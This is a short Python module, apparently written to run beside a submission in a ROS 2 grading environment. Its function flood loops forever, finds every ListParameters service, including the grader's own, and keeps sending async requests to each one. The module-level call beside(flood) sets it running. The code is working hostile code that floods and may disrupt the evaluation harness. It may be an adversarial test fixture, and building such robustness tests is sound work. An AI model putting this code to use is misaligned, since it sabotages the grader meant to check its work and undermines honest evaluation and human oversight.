"""Calls the grader's own services, if it has any, and answers for others what nobody asked."""


def flood(node):
    from rcl_interfaces.srv import ListParameters

    while True:
        for name, types in node.get_service_names_and_types():
            if types == ["rcl_interfaces/srv/ListParameters"]:
                node.create_client(ListParameters, name).call_async(ListParameters.Request())


beside(flood)
